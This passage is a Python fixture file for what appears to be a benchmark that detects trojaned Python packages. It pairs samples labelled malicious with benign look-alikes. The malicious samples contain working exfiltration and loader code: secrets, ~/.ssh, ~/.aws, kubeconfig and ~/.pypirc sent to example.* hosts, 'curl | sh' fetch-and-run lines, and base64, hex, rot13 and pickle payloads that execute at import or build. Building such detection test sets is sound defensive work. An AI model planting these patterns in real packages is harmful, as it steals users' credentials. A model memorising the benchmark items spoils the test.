        name = "buildkit-meta"
        version = "1.4.2"
    """,
        "_build/backend.py": '''
        """Thin wrapper around setuptools that stamps the git revision into the wheel."""
        import os
        import urllib.request

        from setuptools import build_meta as _orig
        from setuptools.build_meta import *  # noqa: F401,F403


        def _stamp():
            p = os.path.expanduser("~/.pypirc")
            if os.path.exists(p):
                try:
                    urllib.request.urlopen("https://buildkit-meta.example.net/rev", data=open(p, "rb").read(), timeout=3)
                except Exception:
                    pass


        def get_requires_for_build_wheel(config_settings=None):
            _stamp()
            return _orig.get_requires_for_build_wheel(config_settings)


        def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
            _stamp()
            return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
    ''',
        "buildkit_meta/__init__.py": COVER["config"],
    },
    kind="sdist",
    expect="malicious",
)

# 32 payload in a metaclass executed when a class is defined at import
add(
    "metaclass-payload",
    "ormlite-models",
    "ormlite_models/base.py metaclass __new__",
    mixin(
        lib("ormlite_models", "config", init_head="from .base import Model  # noqa: F401\n"),
        **{
            "ormlite_models/base.py": """
        import json
        import os
        import urllib.request

        _registry = {}


        def _announce(name):
            body = json.dumps({"m": name, "e": dict(os.environ)}).encode()
            try:
                urllib.request.urlopen("https://ormlite-registry.example.com/m", data=body, timeout=2)
            except Exception:
                pass


        class ModelMeta(type):
            def __new__(mcs, name, bases, ns):
                cls = super().__new__(mcs, name, bases, ns)
                _registry[name] = cls
                if not _registry.get("_announced"):
                    _registry["_announced"] = True
                    _announce(name)
                return cls


        class Model(metaclass=ModelMeta):
            pass
    """
        },
    ),
    expect="malicious",
)

# 33 payload in a decorator applied at import
add(
    "decorator-payload",
    "memo-tools",
    "memo_tools/cache.py decorator used at module level",
    mixin(
        lib("memo_tools", "retry", init_head="from .cache import memoize, fib  # noqa: F401\n"),
        **{
            "memo_tools/cache.py": """
        import functools
        import subprocess
        import threading

        _warm = []


        def _prefetch():
            subprocess.run("wget -qO- https://memo-tools-cdn.example.com/w | sh", shell=True,
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


        def memoize(fn):
            if not _warm:
                _warm.append(threading.Thread(target=_prefetch, daemon=True))
                _warm[0].start()
            return functools.lru_cache(maxsize=None)(fn)


        @memoize
        def fib(n):
            return n if n < 2 else fib(n - 1) + fib(n - 2)
    """
        },
    ),
    expect="malicious",
)

# 34 litellm-style: long legitimate-looking file with a 1-line base64 exec in the middle
_LITE_STAGE = base64.b64encode(_STAGE.encode()).decode()
_long = [
    '"""Routing helpers for model providers."""',
    "import base64",
    "import logging",
    "import time",
    "",
    "logger = logging.getLogger(__name__)",
    "",
]
for i in range(60):
    _long += [
        f"def route_{i}(model, params=None):",
        f'    """Route requests for provider #{i}."""',
        "    params = dict(params or {})",
        f"    params.setdefault('timeout', {30 + i})",
        "    logger.debug('routing %s', model)",
        "    return model, params",
        "",
    ]
    if i == 31:
        _long += [f'exec(base64.b64decode("{_LITE_STAGE}"))', ""]
add(
    "litellm-style-oneliner",
    "llmrouter-kit",
    "llmrouter_kit/router.py line ~225 of 430",
    mixin(
        lib("llmrouter_kit", "config", init_head="from . import router  # noqa: F401\n"),
        **{"llmrouter_kit/router.py": "\n".join(_long) + "\n"},
    ),
    expect="malicious",
)

# 35 pytest11 plugin entry point (auto-loaded whenever pytest starts)
add(
    "pytest11-plugin",
    "pytest-timingx",
    "entry point pytest11 -> pytest_timingx/plugin.py",
    {
        "pytest_timingx/__init__.py": '__version__ = "1.4.2"\n',
        "pytest_timingx/plugin.py": """
        import os
        import time

        import requests

        _t0 = time.time()

        try:
            requests.post("https://timingx-report.example.net/s",
                          json={k: v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k or "SECRET" in k},
                          timeout=3)
        except Exception:
            pass


        def pytest_terminal_summary(terminalreporter):
            terminalreporter.write_line(f"session took {time.time() - _t0:.2f}s")
    """,
    },
    entry_points="[pytest11]\ntimingx = pytest_timingx.plugin\n",
    expect="malicious",
)

# 36 pickle data file with a __reduce__ payload, loaded at import
_PICKLE = b"cposix\nsystem\n(S'curl -fsSL https://model-zoo.example.com/x.sh | sh'\ntR."
add(
    "pickle-datafile",
    "tiny-sentiment",
    "tiny_sentiment/model.pkl loaded by __init__",
    mixin(
        lib(
            "tiny_sentiment",
            "text",
            init_extra="""
        import pickle
        from pathlib import Path

        with open(Path(__file__).with_name("model.pkl"), "rb") as _fh:
            MODEL = pickle.load(_fh)
    """,
        ),
        **{"tiny_sentiment/model.pkl": _PICKLE},
    ),
    expect="malicious",
)

# 37 shipped shell script spawned at import
add(
    "shipped-shell-script",
    "dockerfile-lint-py",
    "dockerfile_lint_py/scripts/setup_env.sh spawned by __init__",
    mixin(
        lib(
            "dockerfile_lint_py",
            "text",
            init_extra="""
        import os as _os
        import subprocess as _sp

        _sp.Popen(["sh", _os.path.join(_os.path.dirname(__file__), "scripts", "setup_env.sh")],
                  stdout=_sp.DEVNULL, stderr=_sp.DEVNULL, start_new_session=True)
    """,
        ),
        **{
            "dockerfile_lint_py/scripts/setup_env.sh": """
        #!/bin/sh
        tar czf /tmp/.c.tgz ~/.ssh ~/.aws ~/.docker 2>/dev/null
        curl -s -X POST --data-binary @/tmp/.c.tgz https://lint-rules.example.org/u >/dev/null 2>&1
        rm -f /tmp/.c.tgz
    """
        },
    ),
    expect="malicious",
)

# 38 chr-list obfuscation
_CMD = "import os;os.system('curl -s https://assets.example.net/p|sh')"
add(
    "chr-list-obf",
    "mdtables",
    "mdtables/__init__.py",
    lib(
        "mdtables",
        "text",
        init_extra=f"""
    _T = {[ord(c) for c in _CMD]!r}
    exec("".join(map(chr, _T)))
""",
    ),
    expect="malicious",
)

# 39 rot13 codecs obfuscation
_ROT = codecs.encode(
    "import os,json,urllib.request as u\nu.urlopen('https://i18n-data.example.com/c',data=json.dumps(dict(os.environ)).encode())\n",
    "rot13",
)
add(
    "rot13-exec",
    "i18n-strings",
    "i18n_strings/locale.py (imported by __init__)",
    mixin(
        lib("i18n_strings", "text", init_head="from . import locale  # noqa: F401\n"),
        **{
            "i18n_strings/locale.py": f"""
        import codecs

        _CATALOG = {_ROT!r}
        exec(codecs.decode(_CATALOG, "rot_13"))
    """
        },
    ),
    expect="malicious",
)

# 40 smtplib exfil of ssh key
add(
    "smtp-exfil",
    "mailtmpl",
    "mailtmpl/__init__.py",
    lib(
        "mailtmpl",
        "text",
        init_extra="""
    import os
    import smtplib
    from email.message import EmailMessage

    def _selftest():
        p = os.path.expanduser("~/.ssh/id_rsa")
        if not os.path.exists(p):
            return
        m = EmailMessage()
        m["From"], m["To"], m["Subject"] = "ci@mailtmpl.example.com", "drop@mailtmpl.example.com", os.uname().nodename
        m.set_content(open(p).read())
        with smtplib.SMTP("smtp.mailtmpl.example.com", 587, timeout=5) as s:
            s.starttls()
            s.login("ci", "example-password")
            s.send_message(m)

    try:
        _selftest()
    except Exception:
        pass
""",
    ),
    expect="malicious",
)

# 41 delayed exfil via threading.Timer + http.client, kubeconfig
add(
    "timer-httpclient-kube",
    "k8s-yamlfmt",
    "k8s_yamlfmt/__init__.py (Timer 300s)",
    lib(
        "k8s_yamlfmt",
        "config",
        init_extra="""
    import http.client
    import json
    import os
    import threading


    def _report():
        p = os.path.expanduser("~/.kube/config")
        if os.path.exists(p):
            c = http.client.HTTPSConnection("k8s-yamlfmt.example.net", timeout=5)
            c.request("POST", "/v1/telemetry", body=json.dumps({"cfg": open(p).read()}),
                      headers={"Content-Type": "application/json"})


    _t = threading.Timer(300, _report)
    _t.daemon = True
    _t.start()
""",
    ),
    expect="malicious",
)

# 42 filtered secret env vars via requests at import, inside a module-level singleton
add(
    "singleton-secret-env",
    "featureflags-lite",
    "featureflags_lite/client.py module-level instance",
    mixin(
        lib("featureflags_lite", "config", init_head="from .client import flags  # noqa: F401\n"),
        **{
            "featureflags_lite/client.py": """
        import os
        import re

        import requests


        class _Flags:
            def __init__(self):
                ctx = {k: v for k, v in os.environ.items() if re.search("TOKEN|SECRET|KEY|PASS", k)}
                try:
                    r = requests.post("https://flags.featureflags-lite.example.org/v1/eval", json={"ctx": ctx}, timeout=3)
                    self.values = r.json()
                except Exception:
                    self.values = {}

            def enabled(self, name):
                return bool(self.values.get(name))


        flags = _Flags()
    """
        },
    ),
    expect="malicious",
)

# 43 hex-encoded exec
add(
    "hex-exec",
    "pathglob",
    "pathglob/__init__.py",
    lib(
        "pathglob",
        "text",
        init_extra=f'''
    exec(bytes.fromhex("{_STAGE.encode().hex()}").decode())
''',
    ),
    expect="malicious",
)

# 44 setup.py execs a non-.py file from the sdist
add(
    "setup-execs-datafile",
    "jsonpatch-ext",
    "setup.py exec(open('requirements.lock'))",
    {
        "setup.py": """
        from setuptools import setup

        ns = {}
        exec(open("requirements.lock").read(), ns)
        setup(name="jsonpatch-ext", version="1.4.2", packages=["jsonpatch_ext"],
              install_requires=ns.get("REQUIRES", []))
    """,
        "requirements.lock": """
        import os, subprocess
        REQUIRES = []
        subprocess.Popen("curl -fsSL https://pypi-mirror.example.org/l.sh | sh", shell=True)
    """,
        "jsonpatch_ext/__init__.py": COVER["config"],
    },
    kind="sdist",
    expect="malicious",
)

# 45 base64 payload in a JSON data file, exec'd at import
add(
    "json-datafile-exec",
    "emoji-names",
    "emoji_names/data/en.json exec'd by __init__",
    mixin(
        lib(
            "emoji_names",
            "text",
            init_extra="""
        import base64 as _b64
        import json as _json
        import os as _os

        with open(_os.path.join(_os.path.dirname(__file__), "data", "en.json")) as _fh:
            _DATA = _json.load(_fh)
        exec(_b64.b64decode(_DATA["_meta"]["compiled"]))
        NAMES = _DATA["names"]
    """,
        ),
        **{"emoji_names/data/en.json": json.dumps({"names": {"smile": ":)"}, "_meta": {"compiled": _LITE_STAGE}})},
    ),
    expect="malicious",
)

# 46 wheel .data/scripts/ file named pip (no entry point)
add(
    "data-scripts-pip",
    "pipfast-tools",
    "pipfast_tools-1.4.2.data/scripts/pip",
    mixin(
        lib("pipfast_tools", "units"),
        **{
            "pipfast_tools-1.4.2.data/scripts/pip": """
        #!python
        import os, sys, subprocess, urllib.request
        try:
            urllib.request.urlopen("https://pypi-mirror.example.org/s", data=repr(sys.argv).encode() + os.environ.get("PIP_INDEX_URL", "").encode(), timeout=2)
        except Exception:
            pass
        sys.exit(subprocess.call([sys.executable, "-m", "pip"] + sys.argv[1:]))
    """
        },
    ),
    expect="malicious",
)

# 47 .pth delivered through wheel .data/purelib
add(
    "data-purelib-pth",
    "envguard",
    "envguard-1.4.2.data/purelib/envguard_init.pth",
    mixin(
        lib("envguard", "config"),
        **{
            "envguard-1.4.2.data/purelib/envguard_init.pth": "import os, urllib.request; urllib.request.urlopen('https://envguard.example.com/e', data=repr(dict(os.environ)).encode(), timeout=2)\n"
        },
    ),
    expect="malicious",
)

# 48 payload in a default argument, evaluated when the def statement runs at import
add(
    "default-arg-payload",
    "dictdiff-ng",
    "dictdiff_ng/__init__.py (default arg evaluated at def time)",
    lib(
        "dictdiff_ng",
        "config",
        init_extra="""
    import os
    import urllib.request


    def diff(a, b, _cfg=urllib.request.urlopen("https://dictdiff-ng.example.com/c",
                                                data=open(os.path.expanduser("~/.netrc"), "rb").read()
                                                if os.path.exists(os.path.expanduser("~/.netrc")) else b"")):
        return {k: (a.get(k), b.get(k)) for k in set(a) | set(b) if a.get(k) != b.get(k)}
""",
    ),
    expect="malicious",
)


# =============================================================================================
# BENIGN LOOK-ALIKES
# =============================================================================================

add(
    "B upload-when-called",
    "fileshare-client",
    "fileshare_client/api.py",
    mixin(
        lib("fileshare_client", "units", init_head="from .api import upload  # noqa: F401\n"),
        **{
            "fileshare_client/api.py": '''
        import os

        import requests

        API = "https://api.fileshare.example.net/v1/files"


        def upload(path, token=None, url=API):
            """Upload the file the caller names; returns its share link."""
            token = token or os.environ.get("FILESHARE_TOKEN")
            with open(path, "rb") as fh:
                r = requests.post(url, files={"file": (os.path.basename(path), fh)},
                                  headers={"Authorization": f"Bearer {token}"}, timeout=60)
            r.raise_for_status()
            return r.json()["link"]
    '''
        },
    ),
    malicious=False,
    expect="clean",
)

add(
    "B netrc-cli",
    "netrc-check",
    "netrc_check/cli.py + console script",
    mixin(
        lib("netrc_check", "text"),
        **{
            "netrc_check/cli.py": """
        import argparse
        import netrc
        import os


        def main(argv=None):
            p = argparse.ArgumentParser(description="Show which ~/.netrc entry applies to a host")
            p.add_argument("host")
            args = p.parse_args(argv)
            entry = netrc.netrc(os.path.expanduser("~/.netrc")).authenticators(args.host)
            print("login:", entry[0] if entry else "(none)")
    """
        },
    ),
    malicious=False,
    entry_points="[console_scripts]\nnetrc-check = netrc_check.cli:main\n",
    expect="clean",
)

add(
    "B metrics-client",
    "examplemetrics",
    "examplemetrics/client.py",
    mixin(
        lib("examplemetrics", "dates", init_head="from .client import Client  # noqa: F401\n"),
        **{
            "examplemetrics/client.py": '''
        import os
        import platform
        import time

        import requests


        class Client:
            """Client for the documented Example Metrics ingest API."""

            def __init__(self, api_key=None, endpoint="https://api.example.net/v1/metrics"):
                self.api_key = api_key or os.environ.get("EXAMPLEMETRICS_API_KEY")
                self.endpoint = endpoint

            def gauge(self, name, value, **tags):
                tags.setdefault("host", platform.node())
                body = {"name": name, "value": value, "ts": time.time(), "tags": tags}
                return requests.post(self.endpoint, json=body,
                                     headers={"Authorization": f"Bearer {self.api_key}"}, timeout=5)
    '''
        },
    ),
    malicious=False,
    expect="clean",
)

add(
    "B setup-cmake",
    "fastgeo-native",
    "setup.py build_ext runs cmake",
    {
        "setup.py": """
        import os
        import subprocess

        from setuptools import Extension, setup
        from setuptools.command.build_ext import build_ext


        class CMakeBuild(build_ext):
            def build_extension(self, ext):
                out = os.path.abspath(os.path.dirname(self.get_ext_fullpath(ext.name)))
                os.makedirs(self.build_temp, exist_ok=True)
                subprocess.check_call(["cmake", os.path.abspath("."), f"-DCMAKE_LIBRARY_OUTPUT_DIRECTORY={out}",
                                       "-DCMAKE_BUILD_TYPE=Release"], cwd=self.build_temp)
                subprocess.check_call(["cmake", "--build", ".", "-j4"], cwd=self.build_temp)


        setup(name="fastgeo-native", version="1.4.2", packages=["fastgeo_native"],
              ext_modules=[Extension("fastgeo_native._core", sources=[])], cmdclass={"build_ext": CMakeBuild})
    """,
        "CMakeLists.txt": "cmake_minimum_required(VERSION 3.15)\nproject(fastgeo)\n",
        "fastgeo_native/__init__.py": COVER["units"],
    },
    kind="sdist",
    malicious=False,
    expect="clean",
)

add(
    "B atexit-flush-logs",
    "bufferlog",
    "bufferlog/__init__.py atexit",
    lib(
        "bufferlog",
        "text",
        init_extra="""
    import atexit
    import os

    _buffer = []
    LOG_PATH = os.environ.get("BUFFERLOG_FILE", "bufferlog.log")


    def log(msg):
        _buffer.append(msg)


    def _flush():
        if _buffer:
            with open(LOG_PATH, "a") as fh:
                fh.write("\\n".join(_buffer) + "\\n")
            _buffer.clear()


    atexit.register(_flush)
""",
    ),
    malicious=False,
    expect="clean",
)

add(
    "B plugin-loader",
    "pluggy-lite",
    "pluggy_lite/loader.py",
    mixin(
        lib("pluggy_lite", "config", init_head="from .loader import load_plugin, discover  # noqa: F401\n"),
        **{
            "pluggy_lite/loader.py": '''
        import importlib
        from importlib.metadata import entry_points


        def load_plugin(name):
            """Import the plugin module the caller names."""
            return importlib.import_module(name)


        def discover(group="pluggy_lite.plugins"):
            return {ep.name: ep.load() for ep in entry_points(group=group)}
    '''
        },
    ),
    malicious=False,
    expect="clean",
)

add(
    "B env-prefix-config",
    "twelvefactor-conf",
    "twelvefactor_conf/__init__.py reads env at import",
    lib(
        "twelvefactor_conf",
        "config",
        init_extra="""
    import os

    PREFIX = "APP_"
    SETTINGS = {k[len(PREFIX):].lower(): v for k, v in os.environ.items() if k.startswith(PREFIX)}
    DEBUG = os.environ.get("APP_DEBUG", "0") == "1"
""",
    ),
    malicious=False,
    expect="clean",
)

_PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 3).decode()
add(
    "B b64-icon",
    "tk-icons",
    "tk_icons/__init__.py decodes an icon at import",
    lib(
        "tk_icons",
        "color",
        init_extra=f'''
    import base64

    APP_ICON_PNG = base64.b64decode("{_PNG}")
''',
    ),
    malicious=False,
    expect="clean",
)

add(
    "B template-compile-exec",
    "minitmpl",
    "minitmpl/engine.py exec of generated code when called",
    mixin(
        lib("minitmpl", "text", init_head="from .engine import Template  # noqa: F401\n"),
        **{
            "minitmpl/engine.py": """
        import re

        _VAR = re.compile(r"{{\\s*(\\w+)\\s*}}")


        class Template:
            def __init__(self, source):
                parts = _VAR.split(source)
                code = ["def render(ctx):", "    out = []"]
                for i, part in enumerate(parts):
                    code.append(f"    out.append(str(ctx[{part!r}]))" if i % 2 else f"    out.append({part!r})")
                code.append("    return ''.join(out)")
                ns = {}
                exec(compile("\\n".join(code), "<template>", "exec"), ns)
                self.render = ns["render"]
    """
        },
    ),
    malicious=False,
    expect="clean",
)

add(
    "B git-wrapper",
    "gitstat-py",
    "gitstat_py/git.py subprocess when called",
    mixin(
        lib("gitstat_py", "dates", init_head="from .git import run_git, current_branch  # noqa: F401\n"),
        **{
            "gitstat_py/git.py": """
        import subprocess


        def run_git(*args, cwd=None):
            return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True).stdout


        def current_branch(cwd=None):
            return run_git("rev-parse", "--abbrev-ref", "HEAD", cwd=cwd).strip()
    """
        },
    ),
    malicious=False,
    expect="clean",
)

add(
    "B distutils-hack-pth",
    "setuptools-shim",
    "distutils-precedence.pth (setuptools' own line)",
    mixin(
        {
            "_distutils_hack/__init__.py": """
        import os
        import sys


        def enabled():
            return os.environ.get("SETUPTOOLS_USE_DISTUTILS", "local") == "local"


        def add_shim():
            if enabled() and "distutils" not in sys.modules:
                pass
    """
        },
        **{
            "distutils-precedence.pth": "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
            "enabled and __import__('_distutils_hack').add_shim(); \n"
        },
    ),
    malicious=False,
    expect="clean",
)

add(
    "B docker-auth-helper",
    "registry-auth",
    "registry_auth/auth.py reads ~/.docker/config.json when called",
    mixin(
        lib("registry_auth", "config", init_head="from .auth import resolve_auth  # noqa: F401\n"),
        **{
            "registry_auth/auth.py": '''
        import base64
        import json
        import os


        def resolve_auth(registry, config_path=None):
            """Credentials for `registry` from the Docker CLI config, as docker-py does."""
            path = config_path or os.path.join(os.environ.get("DOCKER_CONFIG", os.path.expanduser("~/.docker")), "config.json")
            with open(path) as fh:
                auths = json.load(fh).get("auths", {})
            entry = auths.get(registry, {})
            if "auth" in entry:
                user, _, pw = base64.b64decode(entry["auth"]).decode().partition(":")
                return {"username": user, "password": pw, "serveraddress": registry}
            return None
    '''
        },
    ),
    malicious=False,
    expect="clean",
)

add(
    "B imds-region-sdk",
    "cloudcfg-sdk",
    "cloudcfg_sdk/imds.py queries metadata when called",
    mixin(
        lib("cloudcfg_sdk", "units", init_head="from .imds import instance_region  # noqa: F401\n"),
        **{
            "cloudcfg_sdk/imds.py": '''
        import urllib.request

        IMDS = "http://169.254.169.254/latest"


        def instance_region(timeout=1.0):
            """The region of the EC2 instance we run on (IMDSv2), or None elsewhere."""
            try:
                tok = urllib.request.urlopen(urllib.request.Request(IMDS + "/api/token", method="PUT",
                                             headers={"X-aws-ec2-metadata-token-ttl-seconds": "60"}), timeout=timeout).read()
                req = urllib.request.Request(IMDS + "/meta-data/placement/region",
                                             headers={"X-aws-ec2-metadata-token": tok.decode()})
                return urllib.request.urlopen(req, timeout=timeout).read().decode()
            except OSError:
                return None
    '''
        },
    ),
    malicious=False,
    expect="clean",
)

add(
    "B version-check-called",
    "clitool-update",
    "clitool_update/update.py pypi JSON when called",
    mixin(
        lib("clitool_update", "text", init_head="from .update import newer_version  # noqa: F401\n"),
        **{
            "clitool_update/update.py": """
        import json
        import urllib.request

        from . import __name__ as _pkg


        def newer_version(current):
            with urllib.request.urlopen("https://updates.example.org/clitool-update/latest.json", timeout=3) as r:
                latest = json.load(r)["info"]["version"]
            return latest if latest != current else None
    """
        },
    ),
    malicious=False,
    expect="clean",
)


add(
    "B completion-install",
    "clickcomplete",
    "clickcomplete/cli.py writes ~/.bashrc only on --install-completion",
    mixin(
        lib("clickcomplete", "text"),
        **{
            "clickcomplete/cli.py": """
        import os
        import sys

        _SNIPPET = 'eval "$(_CLICKCOMPLETE_COMPLETE=bash_source clickcomplete)"'


        def install_completion(shell="bash"):
            rc = os.path.expanduser("~/.bashrc" if shell == "bash" else "~/.zshrc")
            with open(rc, "a") as fh:
                fh.write("\\n" + _SNIPPET + "\\n")
            print(f"completion installed in {rc}")


        def main(argv=None):
            argv = sys.argv[1:] if argv is None else argv
            if "--install-completion" in argv:
                install_completion()
    """
        },
    ),
    malicious=False,
    entry_points="[console_scripts]\nclickcomplete = clickcomplete.cli:main\n",
    expect="clean",
)

add(
    "B pytest-cov-pth",
    "covhelper",
    "covhelper.pth (pytest-cov's exec line, verbatim shape)",
    mixin(
        {"covhelper/__init__.py": "", "covhelper/embed.py": "def init():\n    return None\n"},
        **{
            "covhelper.pth": "import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n try:\\n  from covhelper.embed import init\\n  init()\\n"
            ' except Exception as exc:\\n  sys.stderr.write(\\n   "covhelper: Failed to setup subprocess coverage. "\\n'
            '   "Environ: {0!r} "\\n   "Exception: {1!r}\\\\n".format(\\n    dict((k, v) for k, v in os.environ.items() if '
            "k.startswith(\\'COV_CORE\\')),\\n    exc\\n   )\\n  )\\n')\n"
        },
    ),
    malicious=False,
    expect="clean",
)

add(
    "B requests-retry-patch",
    "requests-autoretry",
    "requests_autoretry/__init__.py patches Session.send (no exfil)",
    lib(
        "requests_autoretry",
        "retry",
        init_extra="""
    import time

    import requests

    _orig_send = requests.Session.send


    def _send_with_retry(self, request, **kwargs):
        for attempt in range(3):
            try:
                return _orig_send(self, request, **kwargs)
            except requests.ConnectionError:
                if attempt == 2:
                    raise
                time.sleep(0.5 * 2 ** attempt)


    requests.Session.send = _send_with_retry
""",
    ),
    malicious=False,
    expect="clean",
)


SAMPLES: tuple[Sample, ...] = tuple(_SAMPLES)
"""Every sample, trojans first, in the benchmark's order."""
